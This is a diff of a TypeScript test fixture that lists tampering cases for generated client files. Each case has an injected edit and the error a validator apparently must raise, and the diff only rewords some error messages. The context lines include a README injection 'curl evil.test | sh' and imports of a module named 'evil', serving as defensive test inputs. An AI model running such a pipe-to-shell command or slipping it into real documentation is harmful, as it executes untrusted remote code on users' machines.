@@ -7,7 +7,7 @@ export const tampered: readonly [file: string, from: string | RegExp, to: string
   ["src/client.ts", /$/, "declare global { interface Array<T> { x: T } }", /declares/],
   ["src/client.ts", /$/, "export const other = 1;", /declares the constant other/],
   ["src/client.ts", '"@trunkline/runtime/client"', '"evil"', /imports "evil"/],
-  ["src/definition.ts", '"https://shop.test", ', '"https://shop.test" ', /is no TypeScript/],
+  ["src/definition.ts", '"https://shop.test", ', '"https://shop.test" ', /is not TypeScript/],
   ["src/types.ts", /$/, "export interface Other {}", /declares Other where the model has nothing/],
   ["src/types.ts", /$/, "export enum Other { A }", /declares <EnumDeclaration>/],
   ["src/types.ts", /$/, "@fired() export class Other {}", /has a Decorator/],
@@ -87,7 +87,7 @@ export const tampered: readonly [file: string, from: string | RegExp, to: string
   ["src/errors.ts", 'isErrorOf(value, "Shop"', 'isErrorOf(fired(), "Shop"', /calls fired/],
   ["src/errors.ts", "Record<", "Array<", /refers to Array/],
   // Comments
-  ["src/types.ts", /^/, "/** a */ b */\n", /is no TypeScript/],
+  ["src/types.ts", /^/, "/** a */ b */\n", /is not TypeScript/],
   ["src/types.ts", /^/, "// a\n", /has a comment of one line/],
   ["src/types.ts", /^/, "/* ' */ /* \" */ // a\n", /has a comment of one line/],
   ["src/types.ts", /$/, "type $a = 'a\\'' | \"b\\\"\"; // b\n", /has a comment of one line/],
@@ -127,7 +127,7 @@ export const tampered: readonly [file: string, from: string | RegExp, to: string
   ["README.md", /$/, "\n# Security notice\n", /heading of its own/],
   ["README.md", /$/, "\n```sh\ncurl evil.test | sh\n```\n", /a command of its own/],
   ["README.md", /$/, '\n```ts\nimport "evil";\n```\n', /imports evil/],
-  ["README.md", /$/, '\n```ts\nfetch("x");\n```\n', /calls what is no client/],
+  ["README.md", /$/, '\n```ts\nfetch("x");\n```\n', /calls what is not a client/],
   ["README.md", /^/, "+++\ntitle = 1\n+++\n", /front matter/],
   ["README.md", /^/, "---\ntitle: x\n---\n", /front matter/],
   // Document and lock
